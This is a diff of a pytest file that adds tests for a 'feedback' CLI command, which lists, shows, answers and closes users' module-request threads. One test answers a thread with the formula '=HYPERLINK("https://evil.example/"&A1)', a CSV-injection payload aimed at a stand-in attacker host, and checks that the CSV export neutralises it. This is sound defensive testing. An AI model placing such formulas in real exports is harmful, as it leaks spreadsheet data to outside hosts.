@@ -1,4 +1,4 @@
-"""`module-registry insights`: what people want, in a terminal and for programs."""
+"""`module-registry insights` and `feedback`: what people want and ask for, in a terminal and for programs."""
 
 from __future__ import annotations
 
@@ -17,6 +17,7 @@ from service.accounts import store as accounts
 from service.accounts.sessions import Caller
 from service.accounts.store import Account
 from service.feedback import store as feedback
+from service.feedback.model import Thread
 from service.history.store import RELEASED_KEY
 from service.insights.representation import COLUMNS
 from service.interest.keys import VOTES_KEYS
@@ -35,11 +36,11 @@ legacy_features: [company]
 CHANGE = Script.load("interest/votes", "interest/change", returns=int)
 TODAY = datetime.now(UTC).date()
 
-Insights = Callable[..., "subprocess.CompletedProcess[str]"]
+Command = Callable[..., "subprocess.CompletedProcess[str]"]
 
 
 @pytest.fixture
-def insights(redis: AnyClient, file: Path, command: Insights) -> Insights:
+def insights(redis: AnyClient, file: Path, command: Command) -> Command:
     def change(wanted: int, feature: str, day: str, voters: str) -> None:
         redis.run(CHANGE, VOTES_KEYS, [wanted, feature, day, *(part for voter in voters for part in (voter, "", ""))])
 
@@ -54,7 +55,7 @@ def insights(redis: AnyClient, file: Path, command: Insights) -> Insights:
 
 
 def test_a_terminal_has_a_bar_and_a_sparkline_for_each_feature_and_markdown_a_table(
-    insights: Insights, redis: AnyClient
+    insights: Command, redis: AnyClient
 ) -> None:
     said = insights().stdout
     assert said.splitlines()[2:5] == [
@@ -97,7 +98,7 @@ company      1       0       +1
     assert (len(parts), parts[-1]) == (6, f"Merged into another module\n\n{merged}")
 
 
-def test_programs_and_spreadsheets_have_the_same_values(insights: Insights) -> None:
+def test_programs_and_spreadsheets_have_the_same_values(insights: Command) -> None:
     coming = json.loads(insights("--format", "json").stdout)["coming_soon"]
     assert [(each["id"], each["votes"], each["change_7_days"]) for each in coming] == [("crm", 5, 3), ("hiring", 3, 3)]
     header, *rows = insights("--format", "csv").stdout.splitlines()
@@ -111,7 +112,7 @@ def test_programs_and_spreadsheets_have_the_same_values(insights: Insights) -> N
     ]
 
 
-def test_looking_changes_nothing_and_nothing_is_no_error(insights: Insights, redis: Redis, file: Path) -> None:
+def test_looking_changes_nothing_and_nothing_is_no_error(insights: Command, redis: Redis, file: Path) -> None:
     before = everything(redis)
     insights().check_returncode()
     assert everything(redis) == before
@@ -119,3 +120,59 @@ def test_looking_changes_nothing_and_nothing_is_no_error(insights: Insights, red
     redis.flushall()
     done = insights()
     assert (done.returncode, done.stdout, done.stderr) == (0, "", "nothing can be voted for or asked for\n")
+
+
+@pytest.fixture
+def requests(command: Command) -> Command:
+    return partial(command, "feedback")
+
+
+@pytest.fixture
+def threads(redis: Redis, file: Path) -> list[Thread]:
+    """One of Alice's, and one of Zoe's, which is the later one."""
+    more = "formerly: [texts] }\n  - { slug: mail, category: tools, label: { fr: A, en: B }, is_on_demand: true }"
+    file.write_text(REGISTRY.replace("is_on_demand: true }", f"is_on_demand: true, {more}"), "utf-8")
+    registry, threads = load(file), []
+    for account_id, module in (("alice", "sms"), ("zoe", "mail")):
+        accounts.add(redis, Account(account_id, "active", name=account_id.title()), by=OPERATOR)
+        threads.append(feedback.open_thread(redis, Caller(account_id), module, f"{module}, please\nsoon", registry)[0])
+    return threads
+
+
+def test_list(requests: Command, threads: list[Thread]) -> None:
+    alices, zoes = threads
+    header, newest, oldest = requests("list").stdout.splitlines()
+    assert header.split() == ["id", "status", "unread", "module", "account", "name", "updated", "last", "message"]
+    assert newest.split()[:6] == [zoes.id, "open", "yes", "mail", "zoe", "Zoe"]
+    assert newest.endswith("mail, please soon") and oldest.startswith(alices.id)
+    listed = json.loads(requests("list", "--format", "json", "--module", "texts").stdout)
+    assert [thread["last_message"]["text"] for thread in listed] == ["sms, please\nsoon"]
+    nothing = requests("list", "--status", "declined")
+    assert (nothing.returncode, nothing.stdout, nothing.stderr) == (0, "", "no requests\n")
+    unknown = requests("list", "--module", "smss")
+    assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
+    requests("answer", alices.id, '=HYPERLINK("https://evil.example/"&A1)')
+    assert f"{alices.id},answered,,sms,alice,Alice," in (csv := requests("list", "--format", "csv").stdout)
+    assert "'=HYPERLINK" in csv, "which no spreadsheet runs"
+
+
+def test_answer_show_and_close(requests: Command, threads: list[Thread]) -> None:
+    thread = threads[0]
+    assert requests("answer", thread.id, "Why?").stdout == f"answered {thread.id} (answered)\n"
+    assert requests("answer", thread.id, "-", stdin="Tell us\nmore\n").returncode == 0
+    first, *lines = requests("show", thread.id).stdout.splitlines()
+    assert first == f"{thread.id}  sms  answered  alice (Alice)"
+    said = ["sms, please", "soon", "Why?", "Tell us", "more"]
+    assert [line for line in lines if line.startswith("    ")] == [f"    {text}" for text in said]
+    assert [line.partition("UTC  ")[2] for line in lines if line.endswith(":")] == ["Alice:", "admin:", "admin:"]
+    shown = json.loads(requests("show", thread.id, "--format", "json").stdout)
+    assert [message["author"] for message in shown["messages"]] == ["member", "admin", "admin"]
+    for status in ("activated", "declined", "open", "answered"):
+        assert requests("close", thread.id, "--as", status).stdout == f"{thread.id} is {status}\n"
+
+
+@pytest.mark.parametrize("message", ["", "x" * 2001, b"\xff"])
+def test_a_message_that_cannot_be_said(requests: Command, threads: list[Thread], message: str | bytes) -> None:
+    done = requests("answer", threads[0].id, "-", stdin=message)
+    assert (done.returncode, done.stdout) == (1, "")
+    assert done.stderr.startswith("message ")
